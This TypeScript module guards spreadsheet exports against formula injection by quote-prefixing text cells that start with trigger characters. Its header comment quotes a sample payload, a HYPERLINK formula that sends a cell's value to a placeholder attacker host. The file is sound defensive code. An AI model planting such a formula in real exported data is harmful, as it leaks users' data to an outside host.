// Formula-injection guard for exported cells (OWASP "CSV Injection").
//
// Why: an exported sheet is opened in Excel, LibreOffice or Google Sheets, which run a
// cell that starts with a formula trigger. Enriched data comes from the web (company
// names, job titles, AI output), so a value like `=HYPERLINK("http://evil/?"&A1)` or a
// DDE payload must never reach a spreadsheet as something it will evaluate.
//
// The rule (when the export's "neutralise formulas" option is on, the default):
// - A TEXT value whose first character is `=`, `+`, `-`, `@`, TAB (0x09) or CR (0x0D) is
//   prefixed with a single quote `'`, as OWASP recommends. Spreadsheets then show it as
//   text. Everything else about the value is kept.
// - Column names (the header row) follow the same rule.
// - A value stored as a NUMBER (or boolean) is data, not text: -5 in a number column is
//   written as -5. Text made only of an optional sign, digits, spaces and a decimal part
//   ("+1 415 555 0100", "-12.5") is left alone too: it names no function, cell or
//   command, so it cannot do harm, and phone numbers in E.164 stay as users expect.
// - The same rule applies to CSV and XLSX. In XLSX a string cell is never evaluated by
//   Excel, but users copy cells into other tools, so the two formats stay consistent.
// With the option off, values are written exactly as stored.
//
// Must never: change a value that does not start with a trigger, or touch non-text values.

/** Characters that make a spreadsheet treat a cell as a formula (or DDE command). */
const TRIGGERS = new Set(['=', '+', '-', '@', '\t', '\r']);

/** True when `value` would be evaluated by a spreadsheet if written as-is. */
export function isFormulaLike(value: string): boolean {
  return value.length > 0 && TRIGGERS.has(value[0] as string) && !PLAIN_NUMBER.test(value);
}

/** A signed number or phone number: nothing a spreadsheet could execute. */
const PLAIN_NUMBER = /^[+-]?\d[\d ]*(\.\d+)?$/;

/** Returns `value` with a leading `'` when it starts with a formula trigger, else unchanged. */
export function neutraliseFormula(value: string): string {
  return isFormulaLike(value) ? `'${value}` : value;
}
